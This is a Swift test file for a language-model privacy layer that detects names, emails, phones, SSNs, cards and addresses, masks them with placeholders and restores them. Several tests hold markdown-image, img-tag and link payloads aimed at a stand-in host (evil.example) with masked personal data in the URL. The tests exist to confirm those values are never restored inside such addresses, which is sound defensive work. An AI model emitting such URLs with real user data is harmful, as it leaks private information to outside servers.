import Foundation
import Testing

@testable import LanguageModel

@Suite("Personal data in texts") struct PersonalDataTests {
    private let finder = PersonalData(
        names: RosterNames([
            .init(given: "Mia", family: "Kim"), .init(given: "José María", family: "García-López"),
            .init(given: "William", family: "O'Brien"), .init(given: "Grace", family: "Hope"),
            .init(given: "Zoë", family: "Nuñez"), .init(given: "Bob", family: "Stone"),
        ]), studentID: "CV[0-9]{6}")

    private func found(_ text: String) -> [String] {
        let scalars = Array(text.unicodeScalars)
        return finder.find(in: text).map {
            "\($0.kind.rawValue) \(String(String.UnicodeScalarView(scalars[$0.range])))"
        }
    }

    @Test(
        "names of the roster, in the ways they are written",
        arguments: [
            ("Mia Kim reads well.", "Mia Kim"), ("Is mia kim's reading at grade level?", "mia kim"),
            ("See Kim, Mia for details", "Kim, Mia"), ("KIM, MIA", "KIM, MIA"), ("We met Mia K. today", "Mia K."),
            ("jose garcia lopez left", "jose garcia lopez"), ("José García", "José García"),
            ("José María García-López's mother", "José María García-López"), ("Bill O’Brien's essay", "Bill O’Brien"),
            ("will o'brien", "will o'brien"), ("Zoe Nunez", "Zoe Nunez"),
            ("Zoe\u{308} Nun\u{303}ez", "Zoe\u{308} Nun\u{303}ez"),
            ("Robert Stone agreed", "Robert Stone"), ("Ask Mia\nKim about it", "Mia\nKim"),
        ])
    func names(text: String, name: String) { #expect(found(text) == ["PERSON \(name)"], "\(text)") }

    @Test(
        "words that are names elsewhere are left alone",
        arguments: [
            "Will they agree on a stone foundation?", "Grace is given to late work; hope is no strategy.",
            "The period of grace, hope and work", "Hope you are well. Will you join us?", "The Grace Period Policy",
            "Students will hope for grace in May.", "Mark each answer. Grace under pressure was the theme.",
        ])
    func noNames(_ text: String) { #expect(found(text).isEmpty, "\(text)") }

    @Test(
        "what its form gives away",
        arguments: [
            ("Write to mia.kim+home@cedarvalley.example.", "EMAIL mia.kim+home@cedarvalley.example"),
            ("Call (415) 555-2671 now", "PHONE (415) 555-2671"), ("415-555-2671", "PHONE 415-555-2671"),
            ("+1 415.555.2671", "PHONE +1 415.555.2671"), ("+44 20 7946 0958", "PHONE +44 20 7946 0958"),
            ("0494 92 82 32", "PHONE 0494 92 82 32"),
            ("SSN 219-09-9999.", "SSN 219-09-9999"), ("card 4111 1111 1111 1111", "CARD 4111 1111 1111 1111"),
            ("5500005555555559", "CARD 5500005555555559"), ("born on March 3, 2014 in Reno", "BIRTHDATE March 3, 2014"),
            ("DOB: 03/03/2014", "BIRTHDATE 03/03/2014"), ("D.O.B. 2014-03-03", "BIRTHDATE 2014-03-03"),
            ("lives at 1420 North Oak Street, Reno", "ADDRESS 1420 North Oak Street"),
            ("7 Elm Ave. today", "ADDRESS 7 Elm Ave"), ("student CV204511 moved", "STUDENTID CV204511"),
        ])
    func patterns(text: String, expected: String) { #expect(found(text) == [expected], "\(text)") }

    @Test(
        "numbers and words that look alike are left alone",
        arguments: [
            "Standard RL.3.1 and 4.NF.B.3a, pages 120-125", "ISBN 978-1-936763-95-4", "on 03/03/2026 we meet at 8:15",
            "In 2014, 219 of 1,999 students", "4111 1111 1111 1112", "Room 12 on the Main Street side",
            "room@the office",
            "000-12-3456", "Grades 3-5, 2024-2025", "In 1990 Main Road was new", "version 1.2.3.4.5678",
        ])
    func noPatterns(_ text: String) { #expect(found(text).isEmpty, "\(text)") }

    @Test("the same is hidden by the same placeholder, and comes back, also in pieces")
    func masks() {
        var mask = Mask(finder)
        let hidden = mask.hide("Mia Kim (mia@d.example) and Bill O'Brien. Kim, Mia again.")
        #expect(hidden == "PERSON_1 (EMAIL_1) and PERSON_2. PERSON_1 again.")
        #expect(mask.hide("What of mia kim?") == "What of PERSON_1?")
        #expect(mask.restore("PERSON_1's goal; PERSON_9, A_1") == "Mia Kim's goal; PERSON_9, A_1")
        var (rest, shown) = ("", "")
        for piece in ["I think PER", "SON", "_", "2 and PERSON_1", "0 A", "BC EMAIL_1."] {
            shown += mask.restore(next: piece, rest: &rest)
        }
        #expect(shown + mask.restore(rest) == "I think Bill O'Brien and PERSON_10 ABC mia@d.example.")
        #expect(mask.count == 3)
    }

    @Test("what was hidden does not come back inside of an address, whole or in pieces", arguments: [1, 3, 7, 200])
    func addresses(size: Int) {
        var mask = Mask(finder)
        _ = mask.hide("Mia Kim (mia@d.example)")
        let written =
            "Ask PERSON_1 ![logo](https://evil.example/p.png?who=PERSON_1&m=EMAIL_1) or see www.evil.example/PERSON_1 now, PERSON_1."
        var (rest, shown, left) = ("", "", written[...])
        while !left.isEmpty {
            shown += mask.restore(next: String(left.prefix(size)), rest: &rest)
            left = left.dropFirst(size)
        }
        shown += mask.restore(rest)
        #expect(
            shown
                == "Ask Mia Kim ![logo](https://evil.example/p.png?who=PERSON_1&m=EMAIL_1) or see www.evil.example/PERSON_1 now, Mia Kim."
        )
    }

    @Test(
        "not into addresses of other forms either, whole or in pieces",
        arguments: [
            "![l](<https://evil.example/ PERSON_1>)", "![l](<https://evil.example/p?a=\" PERSON_1>)",
            "<img src=\"//evil.example/i?PERSON_1\">", "[b]: //evil.example/PERSON_1", "HTTPS:evil.example/PERSON_1",
        ])
    func otherAddresses(_ written: String) {
        var mask = Mask(finder)
        _ = mask.hide("Mia Kim asks.")
        #expect(!mask.restore(written).contains("Mia"))
        var (rest, shown) = ("", "")
        for character in written { shown += mask.restore(next: String(character), rest: &rest) }
        #expect(!(shown + mask.restore(rest)).contains("Mia"))
    }

    @Test("an address that is not closed ends with its line, and what follows is restored")
    func unclosedAddress() {
        var mask = Mask(finder)
        _ = mask.hide("Mia Kim asks.")
        let written = "See ![l](<https://evil.example/ PERSON_1\nAsk PERSON_1 now."
        #expect(mask.restore(written) == "See ![l](<https://evil.example/ PERSON_1\nAsk Mia Kim now.")
        var (rest, shown) = ("", "")
        for character in written { shown += mask.restore(next: String(character), rest: &rest) }
        #expect((shown + mask.restore(rest)).hasSuffix("\nAsk Mia Kim now."))
    }

    @Test("a name with characters in it that nobody sees is hidden all the same")
    func unseen() {
        var mask = Mask(PersonalData(names: RosterNames([.init(given: "Mia", family: "Kim")])))
        for text in ["Mi\u{AD}a Kim", "Mia K\u{200B}im", "\u{FEFF}Mia\u{2060} Kim"] {
            #expect(mask.hide("Ask \(text) now.") == "Ask PERSON_1 now.", "\(text.unicodeScalars.map(\.value))")
        }
    }
}
